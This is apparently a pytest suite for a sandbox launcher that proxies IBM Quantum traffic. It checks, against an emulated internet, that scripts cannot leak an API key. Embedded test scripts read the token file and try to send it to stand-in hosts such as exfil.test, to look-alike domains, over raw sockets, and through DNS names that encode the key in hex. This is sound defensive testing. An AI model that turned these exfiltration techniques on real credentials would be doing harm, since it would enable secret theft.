"""The key can only go to IBM: proven against a stand-in internet, since this machine has no internet.

The stand-in is an ordinary (routable) engine network on which the emulated platform answers under
IBM's real host names, and an "exfiltration" server answers under another name. Runs use
`--platform ibm` with the default `--network allowlist`, reaching out through the stand-in
(`--egress-network`) and trusting the emulator's CA (`--ca-file`): to the client inside, it is IBM.
"""

from __future__ import annotations

import json
import os
import secrets
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from helpers import ROOT, qsandbox

from qsandbox.common.platform_constants import INSTANCE_CRN
from qsandbox.launcher import localplatform
from qsandbox.launcher.credentials import Secret
from qsandbox.launcher.settings import LABEL, VENV_PYTHON

pytestmark = pytest.mark.docker
EXAMPLES = ROOT / "examples"
SCRIPTS = ROOT / "tests" / "scripts"

# Listens on 443 and 53/udp; prints one line per connection or datagram, with what arrived.
RECORDER = r"""
import socket, sys, threading
def tcp():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", 443)); s.listen()
    while True:
        c, a = s.accept(); c.settimeout(2)
        try: data = c.recv(4096)
        except OSError: data = b""
        print("tcp", a[0], data[:200], flush=True); c.close()
def udp():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("0.0.0.0", 53))
    while True:
        data, a = u.recvfrom(4096); print("udp", a[0], data, flush=True)
threading.Thread(target=udp, daemon=True).start()
print("recorder ready", flush=True)
tcp()
"""


@dataclass
class StandIn:
    network: str
    ca_file: Path
    exfil_ip: str
    recorder: object  # docker Container

    def heard(self) -> str:
        return self.recorder.logs().decode(errors="replace")  # type: ignore[attr-defined]

    def options(self) -> list[str]:
        return ["--egress-network", self.network, "--ca-file", str(self.ca_file), "--instance", INSTANCE_CRN]


@pytest.fixture(scope="module")
def stand_in(image, docker_client, tmp_path_factory) -> Iterator[StandIn]:
    tag = secrets.token_hex(4)
    name = f"qsandbox-test-internet-{tag}"
    labels = {"qsandbox.test": tag}  # not qsandbox.run: a sweep must not take the stand-in away
    docker_client.networks.create(name, driver="bridge", labels=labels)
    emulator = recorder = None
    try:
        # No key digests: like the shared emulator, it accepts any well-formed key (each test's canary).
        emulator = localplatform.start_emulator(docker_client, image, f"test-{tag}", name, [])
        recorder = docker_client.containers.run(
            image,
            entrypoint=[VENV_PYTHON, "-c", RECORDER],
            name=f"qsandbox-test-exfil-{tag}",
            labels=labels,
            network=name,
            sysctls={"net.ipv4.ip_unprivileged_port_start": "0"},
            user="10001:10001",
            detach=True,
        )
        for _ in range(100):
            if b"recorder ready" in recorder.logs():
                break
            time.sleep(0.1)
        docker_client.networks.get(name).disconnect(recorder)
        docker_client.networks.get(name).connect(recorder, aliases=["exfil.test", "evilquantum.cloud.ibm.com"])
        recorder.reload()
        ip = recorder.attrs["NetworkSettings"]["Networks"][name]["IPAddress"]
        ca = tmp_path_factory.mktemp("stand-in") / "ca.pem"
        ca.write_text(emulator.ca_pem)
        yield StandIn(name, ca, ip, recorder)
    finally:
        if recorder is not None:
            recorder.remove(force=True)
        if emulator is not None:
            localplatform.stop(docker_client, emulator)
        localplatform.remove_network(docker_client, name)


def run_ibm(stand_in: StandIn, canary: str, script: Path, *args: str, options: tuple[str, ...] = ()):
    return qsandbox(
        "run", "--token-stdin", *stand_in.options(), *options, str(script), *args, input=canary + "\n", timeout=300
    )


@pytest.mark.parametrize("example", ["bell.py", "estimator.py", "executor_sampler.py", "session.py", "rest_api.py"])
def test_unchanged_scripts_reach_ibm_through_the_proxy(stand_in, canary, example, leak_search):
    done = run_ibm(stand_in, canary, EXAMPLES / example)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "egress refused" not in done.stderr
    assert leak_search.all_hits() == []


HOSTILE = r"""
import json, os, socket, sys, time, urllib.request
exfil_ip, key = sys.argv[1], open(os.environ["QISKIT_IBM_TOKEN_FILE"]).read()
out = {}
def via_proxy(name, url):
    try:
        urllib.request.urlopen(urllib.request.Request(url, data=key.encode()), timeout=15)
        out[name] = "REACHED"
    except Exception as e:
        out[name] = type(e).__name__ + ": " + str(e)[:80]
via_proxy("exfil host", "https://exfil.test/")
via_proxy("exfil ip", f"https://{exfil_ip}/")
via_proxy("other port", "https://quantum.cloud.ibm.com:8443/")
via_proxy("plain http", "http://quantum.cloud.ibm.com/")
via_proxy("suffix look-alike", "https://quantum.cloud.ibm.com.evil.test/")
via_proxy("prefix look-alike", "https://evilquantum.cloud.ibm.com/")
def direct(name, host):
    try:
        socket.create_connection((host, 443), timeout=3).sendall(key.encode()); out[name] = "REACHED"
    except OSError as e:
        out[name] = type(e).__name__ + ": " + str(e)[:80]
direct("direct ip", exfil_ip)
for var in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"):
    os.environ.pop(var, None)
direct("no proxy vars", "exfil.test")
try:
    socket.getaddrinfo(key[:20].lower() + ".exfil.test", 443); out["dns"] = "RESOLVED"
except OSError as e:
    out["dns"] = type(e).__name__ + ": " + str(e)[:80]
print(json.dumps(out))
"""


def test_a_hostile_script_cannot_send_the_key_anywhere_else(stand_in, canary, tmp_path, leak_search):
    script = tmp_path / "exfiltrate.py"
    script.write_text(HOSTILE)
    before = stand_in.heard()
    done = run_ibm(stand_in, canary, script, stand_in.exfil_ip)
    assert done.returncode == 0, done.stdout + done.stderr
    results = json.loads(done.stdout.strip().splitlines()[-1])
    assert set(results) == {
        "exfil host",
        "exfil ip",
        "other port",
        "plain http",
        "suffix look-alike",
        "prefix look-alike",
        "direct ip",
        "no proxy vars",
        "dns",
    }
    for name, outcome in results.items():
        assert "REACHED" not in outcome and "RESOLVED" not in outcome, (name, outcome)
    assert stand_in.heard() == before, "the exfiltration server heard from the sandbox"
    closing = done.stderr.strip().splitlines()[-1]
    for target in (
        "exfil.test:443",
        f"{stand_in.exfil_ip}:443",
        "quantum.cloud.ibm.com:8443",
        "quantum.cloud.ibm.com:80",
        "quantum.cloud.ibm.com.evil.test:443",
        "evilquantum.cloud.ibm.com:443",
    ):
        assert target in closing, (target, closing)
    assert "(allow with --allow-host)" in closing
    assert leak_search.all_hits() == []


def test_the_exfiltration_server_is_reachable_without_the_proxy(stand_in, docker_client, image):
    """The control for the test above: from an ordinary container on the stand-in, the same
    server hears the connection, so its silence there is the proxy's doing."""
    marker = secrets.token_hex(8)
    docker_client.containers.run(
        image,
        entrypoint=[
            VENV_PYTHON,
            "-c",
            f"import socket; socket.create_connection(('exfil.test', 443)).sendall(b'{marker}')",
        ],
        network=stand_in.network,
        remove=True,
    )
    time.sleep(0.5)
    assert marker in stand_in.heard()


def test_allow_host_lets_one_more_host_through(stand_in, canary, tmp_path):
    script = tmp_path / "reach.py"
    script.write_text(
        "import urllib.request\n"
        "try:\n    urllib.request.urlopen('https://exfil.test/', timeout=10)\nexcept Exception as e:\n"
        "    print(type(e).__name__, str(e)[:100])\n"
    )
    before = stand_in.heard()
    done = run_ibm(stand_in, canary, script, options=("--allow-host", "exfil.test"))
    assert done.returncode == 0, done.stderr
    assert "egress refused" not in done.stderr
    assert len(stand_in.heard()) > len(before)  # the recorder got the TLS hello through the proxy


def test_the_engine_does_not_forward_dns_from_an_internal_network(stand_in, docker_client, image):
    """The engine's embedded resolver on an --internal network: a query for an outside name must not
    reach the upstream resolver. The upstream here is our recorder (--dns), so we can hear it."""
    internal = docker_client.networks.create(
        f"qsandbox-test-internal-{secrets.token_hex(4)}",
        driver="bridge",
        internal=True,
        labels={"qsandbox.test": "dns"},
        options={"com.docker.network.bridge.inhibit_ipv4": "true"},
    )
    query = "import socket\ntry: socket.getaddrinfo('{}.exfil.test', 443)\nexcept OSError: pass\n"
    try:
        for network, name in ((internal.name, "internal"), (stand_in.network, "control")):
            docker_client.containers.run(
                image,
                entrypoint=[VENV_PYTHON, "-c", query.format(name)],
                network=network,
                dns=[stand_in.exfil_ip],
                remove=True,
            )
        time.sleep(1)
        heard = stand_in.heard()
        assert "control" in heard  # the control: from a routable network the recorder hears the name
        assert "internal" not in heard
    finally:
        internal.remove()


# Runs the launcher with one change, for the test below: the egress proxy's container gets the
# stand-in's recorder as its DNS server (`dns=`, the engine's embedded resolver forwards to it), so
# the test hears every name the proxy resolves. Nothing in qsandbox reads a setting for this.
RESOLVER_OWNED_LAUNCHER = r"""
import os, sys
from qsandbox.launcher import sandbox
create = sandbox.create_container
def with_dns(client, image, hardening, **kwargs):
    if str(kwargs.get("name", "")).endswith("-egress"):
        kwargs["dns"] = [os.environ["TEST_PROXY_DNS"]]
    return create(client, image, hardening, **kwargs)
sandbox.create_container = with_dns
from qsandbox.launcher.cli import main
sys.argv[0] = "qsandbox"
main()
"""

MADE_UP_NAMES = r"""
import json, os, socket, sys
key = open(os.environ["QISKIT_IBM_TOKEN_FILE"]).read().strip().encode()
control = sys.argv[1]
proxy = os.environ["HTTPS_PROXY"].removeprefix("http://").split(":")
targets = {
    "wildcard region": "exfil" + key[:28].hex() + ".quantum.cloud.ibm.com",
    "wildcard private region": "private.k" + key[28:44].hex() + ".quantum.cloud.ibm.com",
    "control": control,
}
out = {}
for name, host in targets.items():
    s = socket.create_connection((proxy[0], int(proxy[1])), timeout=5)
    s.settimeout(3)
    s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
    try:
        out[name] = s.recv(200).split(b"\r\n", 1)[0].decode()
    except TimeoutError:
        out[name] = "no answer in 3 s"
    s.close()
print(json.dumps(out))
"""


def test_a_name_the_script_makes_up_is_never_resolved(stand_in, canary, tmp_path, leak_search):
    """Finding 8 of issue 23: a wildcard such as `[a-z0-9-]+.quantum.cloud.ibm.com` passed
    `exfil<the key in hex>.quantum.cloud.ibm.com`; the proxy resolved it and the query carried the
    key to its resolver. Here the test owns that resolver (the recorder, on UDP 53): it must hear
    neither made-up name, while it does hear the allowed control name asked after them."""
    script = tmp_path / "made_up_names.py"
    script.write_text(MADE_UP_NAMES)
    tag = secrets.token_hex(6)
    control = f"control{tag}.example.org"
    key_hex = [canary.encode()[:28].hex(), canary.encode()[28:44].hex()]
    assert all(h not in stand_in.heard() for h in key_hex)
    done = subprocess.run(
        [sys.executable, "-c", RESOLVER_OWNED_LAUNCHER, "run", "--token-stdin", *stand_in.options()]
        + ["--allow-host", control, str(script), control],
        input=canary + "\n",
        env={
            **{k: v for k, v in os.environ.items() if not k.startswith("QISKIT_IBM")},
            "TEST_PROXY_DNS": stand_in.exfil_ip,
        },
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    results = json.loads(done.stdout.strip().splitlines()[-1])
    # The control: allowed, so the proxy resolves it through the recorder (which never answers).
    end = time.monotonic() + 15
    while time.monotonic() < end and tag not in stand_in.heard():
        time.sleep(0.2)
    heard = stand_in.heard()
    assert tag in heard, "the control name was not heard: the recorder is not the proxy's resolver"
    for h in key_hex:
        assert h not in heard, "a name carrying the key reached the proxy's resolver"
    assert results["wildcard region"] == "HTTP/1.1 403 Filtered", results
    assert results["wildcard private region"] == "HTTP/1.1 403 Filtered", results
    closing = done.stderr.strip().splitlines()[-1]
    assert "egress refused:" in closing and closing.count(".quantum.cloud.ibm.com:443 x1") == 2, closing
    assert leak_search.all_hits() == []


@pytest.fixture
def closed_stand_in(image, docker_client, tmp_path, canary) -> Iterator[StandIn]:
    """A stand-in of its own whose IAM accepts only this test's canary and the keys made with it
    (the module's stand-in accepts any well-formed key, so it could not tell a dead key from one
    it never saw)."""
    tag = secrets.token_hex(4)
    name = f"qsandbox-test-internet-{tag}"
    docker_client.networks.create(name, driver="bridge", labels={"qsandbox.test": tag})
    emulator = None
    try:
        digest = localplatform.digest(Secret(canary, "test"))
        emulator = localplatform.start_emulator(docker_client, image, f"test-{tag}", name, [digest])
        ca = tmp_path / "ca.pem"
        ca.write_text(emulator.ca_pem)
        yield StandIn(name, ca, "", None)
    finally:
        if emulator is not None:
            localplatform.stop(docker_client, emulator)
        localplatform.remove_network(docker_client, name)


def test_an_api_key_made_during_the_run_no_longer_works_after_it(closed_stand_in, canary, leak_search):
    """Issue 23, finding 9, through the egress proxy to IBM's (emulated) IAM: a script makes a new
    API key with the key. Without --revoke-after that key outlives the run (the control: the check
    after the run sees a living key); with it, the new key is deleted along with the key."""
    hostile = ROOT / "tests" / "hostile" / "make_api_key.py"
    made, runs = {}, {}
    for revoke_after in (False, True):
        options = ("--revoke-after",) if revoke_after else ()
        done = run_ibm(closed_stand_in, canary, hostile, "--show-new-key", options=options)
        assert done.returncode == 0, done.stdout + done.stderr
        assert "new key works: True" in done.stdout, done.stdout
        made[revoke_after] = done.stdout.split("new key: ", 1)[1].split()[0]
        runs[revoke_after] = done

    def afterwards(key: str) -> str:
        done = run_ibm(closed_stand_in, key, SCRIPTS / "use_account.py")
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout.strip()

    assert afterwards(made[False]).startswith("accepted:")  # made in the run without --revoke-after
    assert afterwards(made[True]).startswith("refused:")
    assert afterwards(canary).startswith("refused:")
    assert "API key revoked" not in runs[False].stderr
    made_id = runs[True].stdout.split("create: 201 ", 1)[1].split()[0]
    assert f", and 1 API key made during the run: {made_id} created " in runs[True].stderr, runs[True].stderr
    for done in runs.values():
        assert canary not in done.stdout + done.stderr
    assert leak_search.all_hits() == []


def test_sigkill_of_the_launcher_takes_the_proxy_and_sandbox_along(stand_in, canary, tmp_path, docker_client, popen):
    script = tmp_path / "hold.py"
    script.write_text("import time\nprint('holding', flush=True)\ntime.sleep(120)\n")
    proc = popen(
        [sys.executable, "-m", "qsandbox", "run", "--token-stdin", *stand_in.options(), str(script)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    proc.stdin.write(canary + "\n")
    proc.stdin.close()
    proc.stdin = None
    assert proc.stdout.readline().strip() == "holding"

    def names(run_id: str = "") -> set[str]:
        # The low-level list: the SDK's list inspects each container and races with removal.
        flt = {"label": f"{LABEL}={run_id}" if run_id else LABEL}
        return {c["Names"][0].lstrip("/") for c in docker_client.api.containers(all=True, filters=flt)}

    (proxy,) = [n for n in names() if n.endswith("-egress") and n != "qsandbox-platform"][-1:]
    run_id = proxy.removeprefix("qsandbox-").removesuffix("-egress")
    assert names(run_id) == {f"qsandbox-{run_id}", proxy}  # the control: both are there while it lives
    proc.kill()
    proc.communicate(timeout=30)
    end = time.monotonic() + 5
    while time.monotonic() < end and names(run_id):
        time.sleep(0.1)
    assert names(run_id) == set(), f"outlived a SIGKILLed launcher by 5 s: {names(run_id)}"
    # The run's network is what a killed launcher cannot remove (empty now); the next run removes
    # it, as with --platform local, or `qsandbox sweep` does.
    localplatform.remove_network(docker_client, f"qsandbox-{run_id}")
